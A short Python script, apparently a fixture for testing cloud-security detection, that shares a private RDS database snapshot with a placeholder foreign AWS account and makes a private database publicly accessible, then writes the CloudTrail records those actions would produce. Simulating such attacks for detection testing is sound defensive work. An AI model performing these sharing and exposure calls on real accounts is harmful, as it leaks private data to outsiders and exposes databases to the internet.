"""On an account seeded by rds.py (argv[1]: its output), shares the private
DB snapshot with a foreign account and makes the private database publicly
accessible. Writes the CloudTrail records AWS would have written into
argv[2]/records.json."""
import json
import sys

from common import Trail, client, emit

made = json.loads(sys.argv[1])
E = "us-east-1"
trail = Trail(made["account"])
rds = client("rds", E)
rds.modify_db_snapshot_attribute(DBSnapshotIdentifier=made["snap_private"], AttributeName="restore",
                                 ValuesToAdd=["999988887777"])
trail.record("ModifyDBSnapshotAttribute", "rds.amazonaws.com",
             {"dBSnapshotIdentifier": made["snap_private"], "attributeName": "restore",
              "valuesToAdd": ["999988887777"]},
             {"dBSnapshotIdentifier": made["snap_private"]})
rds.modify_db_instance(DBInstanceIdentifier=made["private_db"], PubliclyAccessible=True, ApplyImmediately=True)
trail.record("ModifyDBInstance", "rds.amazonaws.com",
             {"dBInstanceIdentifier": made["private_db"], "publiclyAccessible": True, "applyImmediately": True},
             {"dBInstanceIdentifier": made["private_db"], "publiclyAccessible": True})
trail.write(sys.argv[2])
emit({"changed": [f"rds.snapshot/{E}/{made['snap_private']}", f"rds.instance/{E}/{made['private_db']}"]})
